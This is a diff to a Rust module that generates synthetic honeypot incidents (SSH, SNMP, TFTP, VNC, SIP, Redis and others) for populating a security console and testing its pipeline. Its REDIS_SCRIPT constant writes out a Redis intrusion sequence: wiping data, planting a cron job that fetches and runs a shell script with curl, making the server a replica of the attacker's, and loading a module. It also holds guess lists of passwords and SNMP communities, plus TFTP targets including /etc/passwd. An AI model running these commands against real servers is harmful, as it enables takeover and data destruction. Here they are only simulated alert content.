@@ -2,17 +2,22 @@
 //!
 //! Every generated incident is one of the built-in incidents (the templates)
 //! given a new identity and a new run of events: key, hash, `updated_id`,
-//! times, source address, and user names, passwords and paths drawn from small
-//! word lists. It keeps its template's shape: a key the template lacks (a
-//! token's `src_host_reverse`, the MSSQL incident's `events_count`) stays
-//! absent. Incident `i` depends on nothing but `i` and the seed, so a console
-//! can be filled to any size without holding a second copy, and a test can
-//! recompute any incident to check what came out of the pipeline.
+//! times, source address and port, and what the attacker typed or asked for
+//! (user names, passwords, paths, files, community strings, repositories,
+//! Redis commands) drawn from small word lists. It keeps its template's shape:
+//! a key the template lacks (a token's `src_host_reverse`, the MSSQL
+//! incident's `events_count`) stays absent. Incident `i` depends on nothing
+//! but `i` and the seed, so a console can be filled to any size without
+//! holding a second copy, and a test can recompute any incident to check what
+//! came out of the pipeline.
 
 use std::sync::OnceLock;
 
 use fastrand::Rng;
 use serde_json::{Map, Value, json};
+
+use crate::ecs::logtype;
+use crate::flatten::Origin;
 
 /// 2026-01-01 00:00:00 UTC, the start of the first incident's time slot.
 const START: i64 = 1_767_225_600;
@@ -106,6 +111,73 @@ const AGENTS: &[&str] = &[
 
 const PORTS: &[u16] = &[21, 22, 23, 80, 139, 443, 445, 1433, 3306, 3389, 5900, 8080];
 
+/// What a VNC Canary cracks: weak passwords of at most eight characters, all
+/// that VNC authentication uses.
+const VNC_PASSWORDS: &[&str] =
+    &["123456", "password", "admin", "1234", "12345678", "qwerty", "vnc", "111111"];
+
+/// Client machines, as SMB names them: a prefix and a number.
+const COMPUTERS: &[&str] =
+    &["WKS-HR", "WKS-FIN", "WKS-IT", "WKS-ENG", "LAPTOP-SALES", "DESKTOP-OPS"];
+
+const WINRM_AGENTS: &[&str] = &[
+    "Microsoft WinRM Client",
+    "Ruby WinRM Client (2.8.3, ruby 3.3.5 (2024-09-03))",
+    "Python WinRM client",
+];
+
+/// Community strings an SNMP scanner guesses.
+const COMMUNITIES: &[&str] =
+    &["public", "private", "cisco", "community", "manager", "admin", "snmp", "monitor", "secret"];
+
+/// What SNMP scanners ask for: sysDescr, sysUpTime, sysName, sysLocation,
+/// the interface table, Cisco's config-copy table.
+const OIDS: &[&str] = &[
+    "1.3.6.1.2.1.1.1.0",
+    "1.3.6.1.2.1.1.3.0",
+    "1.3.6.1.2.1.1.5.0",
+    "1.3.6.1.2.1.1.6.0",
+    "1.3.6.1.2.1.2.2.1.2",
+    "1.3.6.1.4.1.9.9.96.1.1.1.1.2",
+];
+
+/// Files asked of a TFTP server: network device configurations, boot files.
+const TFTP_FILES: &[&str] = &[
+    "startup-config",
+    "running-config",
+    "network-confg",
+    "cisco-confg",
+    "router-confg",
+    "SEPDefault.cnf.xml",
+    "pxelinux.0",
+    "pxelinux.cfg/default",
+    "/etc/passwd",
+];
+
+const REPOS: &[&str] = &[
+    "infra/terraform-prod.git",
+    "secrets.git",
+    "backend/api.git",
+    "ops/ansible.git",
+    "admin/dotfiles.git",
+    "payments-service.git",
+];
+
+/// A Redis intrusion in order, command and arguments: look, wipe, plant a
+/// cron job, or make the server a replica of the attacker's. `{src}` is the
+/// source's address, `{host}` the same in a URL.
+const REDIS_SCRIPT: &[(&str, &str)] = &[
+    ("INFO", ""),
+    ("FLUSHALL", ""),
+    ("SET", "x \"\\n*/2 * * * * curl -fsSL http://{host}/b.sh | sh\\n\""),
+    ("CONFIG", "SET dir /var/spool/cron/"),
+    ("CONFIG", "SET dbfilename root"),
+    ("SAVE", ""),
+    ("SLAVEOF", "{src} 8886"),
+    ("MODULE", "LOAD /tmp/exp.so"),
+    ("SLAVEOF", "NO ONE"),
+];
+
 const HOST_WORDS: &[&str] = &["scan", "host", "client", "vps", "dsl", "probe"];
 
 const DOMAINS: &[&str] = &["example.net", "example.org", "example.com"];
@@ -131,13 +203,13 @@ pub fn incident(index: usize, seed: u64) -> Value {
 
     let prototypes = template.incident["description"]["events"].as_array();
     let prototypes = prototypes.map_or(&[][..], Vec::as_slice);
-    let count = event_count(&template.kind, prototypes, &mut rng);
+    let count = event_count(template, prototypes, &mut rng);
     let mut time = created + rng.i64(0..3);
     let mut events = Vec::with_capacity(count);
     let mut times = Vec::with_capacity(count);
     for nth in 0..count {
         let mut event = prototypes[rng.usize(0..prototypes.len())].clone();
-        vary_event(&mut event, nth, time, &actor, &mut rng);
+        vary_event(&mut event, &template.logtype, nth, time, &actor, &mut rng);
         events.push(event);
         times.push(time);
         time += rng.i64(1..=5);
@@ -170,6 +242,10 @@ struct Template {
     incident: Value,
     /// The kind part of its key, e.g. `sshlogin`.
     kind: String,
+    /// `description.logtype`, e.g. `4002`.
+    logtype: String,
+    /// A login attempt, by the mapping's logtype table: some are brute forces.
+    login: bool,
     weight: u32,
 }
 
@@ -181,23 +257,34 @@ fn templates() -> &'static [Template] {
             .map(|incident| {
                 let key = incident["id"].as_str().unwrap_or_default();
                 let kind = key.split(':').nth(1).unwrap_or("incident").to_owned();
-                Template { weight: weight(&kind), kind, incident }
+                let logtype = incident["description"]["logtype"].as_str().unwrap_or_default();
+                let login = logtype
+                    .parse()
+                    .ok()
+                    .and_then(|code| logtype::lookup(Origin::Console, code))
+                    .is_some_and(|info| info.login);
+                let logtype = logtype.to_owned();
+                Template { weight: weight(&logtype), kind, logtype, login, incident }
             })
             .collect()
     })
 }
 
-/// Relative frequency per template: login attempts and scans dominate a
-/// busy console, a disconnected Canary is rare. The kinds with several
-/// templates (SSH, tokens) are split between them.
-fn weight(kind: &str) -> u32 {
-    match kind {
-        "sshlogin" => 10,
-        "httplogin" | "telnetlogin" | "httpget" => 8,
-        "consolidatedportscan" | "hostportscan" | "ftplogin" | "smbfileopen" | "rdplogin" => 6,
-        "mysqllogin" | "mssqllogin" => 5,
-        "ldapbind" => 4,
-        "canarytoken" | "devicedied" => 3,
+/// Relative frequency per template, by logtype rather than key kind, since
+/// every token kind shares the kind `canarytoken`: login attempts and scans
+/// dominate a busy console, a disconnected Canary is rare. SSH has two
+/// templates (password and key), each weighed in full.
+fn weight(logtype: &str) -> u32 {
+    match logtype {
+        "4002" => 10,
+        "3000" | "3001" | "6001" => 8,
+        "2000" | "5000" | "5003" | "5007" | "14004" => 6,
+        "8001" | "9001" | "12001" => 5,
+        // SIP, SNMP and Redis scanners sweep the internet.
+        "13001" | "15001" | "21001" | "31001" => 4,
+        "1004" | "11001" | "28002" | "29001" | "16000" | "17000" | "17012" => 3,
+        "10001" | "19001" | "16006" => 2,
+        "17003" | "17020" => 1,
         _ => 5,
     }
 }
@@ -216,18 +303,18 @@ fn pick_template(rng: &mut Rng) -> &'static Template {
 }
 
 /// How many events an incident of this kind gets.
-fn event_count(kind: &str, prototypes: &[Value], rng: &mut Rng) -> usize {
+fn event_count(template: &Template, prototypes: &[Value], rng: &mut Rng) -> usize {
     // Events without a timestamp differ by content alone: copies of one would
     // be the same event, which the source rightly writes once.
     let timed = prototypes.iter().all(|e| e.get("timestamp").is_some());
     if prototypes.is_empty() || !timed {
         return prototypes.len().min(1);
     }
-    let login = kind.ends_with("login") || kind == "ldapbind";
-    match kind {
-        "hostportscan" => 1,
-        "canarytoken" => rng.usize(1..=3),
-        _ if login && rng.u8(0..100) < 12 => rng.usize(BRUTE_FORCE),
+    match template.logtype.as_str() {
+        // A host port scan lists every port in its one event.
+        "5003" => 1,
+        _ if template.kind == "canarytoken" => rng.usize(1..=3),
+        _ if template.login && rng.u8(0..100) < 12 => rng.usize(BRUTE_FORCE),
         _ => rng.usize(1..=8),
     }
 }
@@ -236,7 +323,11 @@ fn event_count(kind: &str, prototypes: &[Value], rng: &mut Rng) -> usize {
 struct Actor {
     /// Empty for incidents without a source, like a disconnected Canary.
     address: String,
+    /// The source port, for incidents that have one.
+    port: u16,
     user: &'static str,
+    /// The client machine's name.
+    computer: String,
     file: &'static str,
     agent: &'static str,
 }
@@ -244,11 +335,23 @@ struct Actor {
 impl Actor {
     fn new(template: &Template, rng: &mut Rng) -> Actor {
         let sourceless = template.incident["description"]["src_host"] == "";
+        let agents = if template.logtype == "29001" { WINRM_AGENTS } else { AGENTS };
         Actor {
             address: if sourceless { String::new() } else { address(rng) },
+            port: rng.u16(1024..=65_535),
             user: pick(rng, USERS),
+            computer: format!("{}-{:04}", pick(rng, COMPUTERS), rng.u16(1..=9999)),
             file: pick(rng, FILES),
-            agent: pick(rng, AGENTS),
+            agent: pick(rng, agents),
+        }
+    }
+
+    /// The address as a URL or SIP URI writes it: IPv6 in brackets.
+    fn host(&self) -> String {
+        if self.address.contains(':') {
+            format!("[{}]", self.address)
+        } else {
+            self.address.clone()
         }
     }
 }
@@ -261,20 +364,50 @@ fn address(rng: &mut Rng) -> String {
     format!("{}.{}", pick(rng, NETWORKS), rng.u8(1..=254))
 }
 
-/// Rewrites what one event says; keys the prototype lacks stay absent.
-fn vary_event(event: &mut Value, nth: usize, time: i64, actor: &Actor, rng: &mut Rng) {
+/// Rewrites what one event of a `logtype` incident says; keys the prototype
+/// lacks stay absent.
+fn vary_event(
+    event: &mut Value,
+    logtype: &str,
+    nth: usize,
+    time: i64,
+    actor: &Actor,
+    rng: &mut Rng,
+) {
+    let tftp = logtype == "10001";
+    let vnc = logtype == "12001";
     let Some(fields) = event.as_object_mut() else { return };
     for (key, value) in fields.iter_mut() {
         *value = match key.as_str() {
             "timestamp" => json!(time),
             "timestamp_std" => json!(std_time(time)),
-            // A brute force tries a new pair each time.
-            "USERNAME" => json!(pick(rng, USERS)),
-            "PASSWORD" => json!(pick(rng, PASSWORDS)),
+            // A brute force tries a new pair each time (MongoDB's keys are
+            // lower case).
+            "USERNAME" | "user" => json!(pick(rng, USERS)),
+            "PASSWORD" if vnc => json!(pick(rng, VNC_PASSWORDS)),
+            "PASSWORD" | "password" => json!(pick(rng, PASSWORDS)),
+            // A VNC challenge and its response are new at every attempt.
+            "SERVER_CHALLENGE" | "CLIENT_RESPONSE" => json!(hex(rng, 16)),
+            "COMMUNITY_STRING" => json!(pick(rng, COMMUNITIES)),
+            "REQUESTS" => json!(oids(rng)),
             "PATH" => json!(pick(rng, PATHS)),
             "DN" => json!(format!("CN={},OU=Users,DC=corp,DC=example,DC=com", pick(rng, USERS))),
-            "USER" => json!(actor.user),
+            "USER" | "windows_desktopini_access_username" => json!(actor.user),
+            "REMOTENAME" | "windows_desktopini_access_computer_name" => json!(actor.computer),
+            // A TFTP scanner tries one file after another; an SMB reader
+            // reads on in one.
+            "FILENAME" if tftp => json!(pick(rng, TFTP_FILES)),
             "FILENAME" => json!(actor.file),
+            "OPCODE" => json!(if rng.u8(0..8) == 0 { "WRITE" } else { "READ" }),
+            "MODE" if tftp => json!(if rng.u8(0..4) == 0 { "netascii" } else { "octet" }),
+            "REPO" => json!(pick(rng, REPOS)),
+            // Redis commands follow the script, so an incident reads as one
+            // intrusion.
+            "CMD" => json!(REDIS_SCRIPT[nth % REDIS_SCRIPT.len()].0),
+            "ARGS" => {
+                let args = REDIS_SCRIPT[nth % REDIS_SCRIPT.len()].1;
+                json!(args.replace("{host}", &actor.host()).replace("{src}", &actor.address))
+            }
             "USERAGENT" => json!(actor.agent),
             "OFFSET" => json!(nth * 32_768),
             "ports" => json!(ports(rng)),
@@ -283,8 +416,29 @@ fn vary_event(event: &mut Value, nth: usize, time: i64, actor: &Actor, rng: &mut
                 locate(value, time, actor, rng);
                 continue;
             }
+            "HEADERS" if logtype == "15001" => {
+                sip_headers(value, actor, rng);
+                continue;
+            }
             _ => continue,
         };
+    }
+}
+
+/// Points the SIP headers that name the caller at the actor, with a new call.
+fn sip_headers(headers: &mut Value, actor: &Actor, rng: &mut Rng) {
+    let Some(headers) = headers.as_object_mut() else { return };
+    let (host, port) = (actor.host(), actor.port);
+    for (name, value) in headers.iter_mut() {
+        let header = match name.as_str() {
+            "via" => format!("SIP/2.0/UDP {host}:{port};branch=z9hG4bK-{};rport", rng.u32(..)),
+            "contact" => format!("<sip:100@{host}:{port}>"),
+            "from" => format!("\"sipvicious\"<sip:100@{host}>;tag={}", hex(rng, 12)),
+            "call-id" => format!("{}@{host}", rng.u32(..)),
+            _ => continue,
+        };
+        // Each SIP header is a list of its values.
+        *value = json!([header]);
     }
 }
 
@@ -334,7 +488,6 @@ fn describe(
     let events_list = if times.is_empty() { created.to_string() } else { join(times) };
     let acknowledged = if rng.u8(0..10) == 0 { "True" } else { "False" };
     let has_port = description.get("src_port").is_some_and(|port| *port != "0");
-    let port = has_port.then(|| rng.u16(1024..=65_535).to_string());
 
     let mut set = |key: &str, value: Value| {
         if let Some(slot) = description.get_mut(key) {
@@ -347,8 +500,8 @@ fn describe(
     set("acknowledged", json!(acknowledged));
     set("src_host", json!(actor.address));
     set("src_host_reverse", json!(reverse_name(&actor.address, rng)));
-    if let Some(port) = port {
-        set("src_port", json!(port));
+    if has_port {
+        set("src_port", json!(actor.port.to_string()));
     }
     set("events_count", json!(events.len().to_string()));
     if !events.is_empty() {
@@ -365,6 +518,17 @@ fn reverse_name(address: &str, rng: &mut Rng) -> String {
     let last = address.rsplit(['.', ':']).next().unwrap_or_default();
     let word = if address.contains(':') { "v6" } else { pick(rng, HOST_WORDS) };
     format!("{word}-{last}.{}", pick(rng, DOMAINS))
+}
+
+/// One to three different OIDs, as one SNMP request asks for them.
+fn oids(rng: &mut Rng) -> Vec<&'static str> {
+    let first = rng.usize(0..OIDS.len());
+    (first..first + rng.usize(1..=3)).map(|at| OIDS[at % OIDS.len()]).collect()
+}
+
+/// `bytes` random bytes in lower case hex.
+fn hex(rng: &mut Rng, bytes: usize) -> String {
+    (0..bytes).map(|_| format!("{:02x}", rng.u8(..))).collect()
 }
 
 /// A few well-known ports in ascending order, as a host port scan lists them.
@@ -495,13 +659,85 @@ mod tests {
         assert_eq!(offset_secs("UTC"), None);
     }
 
+    /// Each kind of key with each logtype: the token kinds share a key kind.
     #[test]
     fn every_template_is_used() {
-        let kinds: HashSet<String> = incidents(2_000, 5)
+        let used: HashSet<(String, String)> = incidents(2_000, 5)
             .iter()
-            .map(|i| i["id"].as_str().unwrap().split(':').nth(1).unwrap().to_owned())
+            .map(|i| {
+                let kind = i["id"].as_str().unwrap().split(':').nth(1).unwrap();
+                (kind.to_owned(), i["description"]["logtype"].as_str().unwrap().to_owned())
+            })
             .collect();
-        let all: HashSet<String> = templates().iter().map(|t| t.kind.clone()).collect();
-        assert_eq!(kinds, all);
+        let all: HashSet<(String, String)> =
+            templates().iter().map(|t| (t.kind.clone(), t.logtype.clone())).collect();
+        assert_eq!(used, all);
+    }
+
+    /// SIP headers name the source, Redis commands follow the script, VNC
+    /// challenges are new at each attempt, TFTP asks for device files.
+    #[test]
+    fn services_vary_as_their_attackers_do() {
+        let mut seen = HashSet::new();
+        for incident in incidents(3_000, 9) {
+            let description = &incident["description"];
+            let logtype = description["logtype"].as_str().unwrap();
+            let source = description["src_host"].as_str().unwrap();
+            let events = events(&incident);
+            match logtype {
+                "15001" => {
+                    let via = events[0]["HEADERS"]["via"][0].as_str().unwrap();
+                    let port = description["src_port"].as_str().unwrap();
+                    assert!(via.contains(source) && via.contains(&format!(":{port};")), "{via}");
+                }
+                "21001" => {
+                    for (nth, event) in events.iter().enumerate() {
+                        assert_eq!(event["CMD"], REDIS_SCRIPT[nth % REDIS_SCRIPT.len()].0);
+                        assert!(!event["ARGS"].as_str().unwrap().contains('{'));
+                    }
+                }
+                "12001" => {
+                    let challenges: HashSet<&str> =
+                        events.iter().map(|e| e["SERVER_CHALLENGE"].as_str().unwrap()).collect();
+                    assert_eq!(challenges.len(), events.len());
+                    let mut cracked = events.iter().filter_map(|e| e["PASSWORD"].as_str());
+                    assert!(cracked.all(|p| p.len() <= 8));
+                }
+                "10001" => {
+                    let mut files = events.iter().map(|e| e["FILENAME"].as_str().unwrap());
+                    assert!(files.all(|f| TFTP_FILES.contains(&f)));
+                }
+                _ => continue,
+            }
+            seen.insert(logtype.to_owned());
+        }
+        assert_eq!(seen.len(), 4, "{seen:?}");
+    }
+
+    /// The mix the generator draws from: every common Canary service, the
+    /// scans, a disconnected Canary, tokens of both channels.
+    #[test]
+    fn the_templates_cover_the_common_services() {
+        let logtypes: HashSet<&str> = templates().iter().map(|t| t.logtype.as_str()).collect();
+        let common = [
+            "1004", "2000", "3000", "3001", "4002", "5000", "5003", "5007", "6001", "8001", "9001",
+            "10001", "11001", "12001", "13001", "14004", "15001", "19001", "21001", "28002",
+            "29001", "31001",
+        ];
+        for logtype in common {
+            assert!(logtypes.contains(logtype), "no {logtype} template");
+        }
+        let tokens = templates().iter().filter(|t| t.kind == "canarytoken");
+        let channels: HashSet<&str> = tokens.map(|t| &t.logtype[..2]).collect();
+        assert_eq!(channels, HashSet::from(["16", "17"]));
+        assert!(templates().iter().filter(|t| t.kind == "canarytoken").count() >= 6);
+    }
+
+    #[test]
+    fn logins_are_known_from_the_logtype_table() {
+        let login =
+            |logtype: &str| templates().iter().find(|t| t.logtype == logtype).unwrap().login;
+        assert!(login("4002") && login("3001") && login("31001"));
+        assert!(!login("5003") && !login("3000") && !login("17000"));
     }
 }
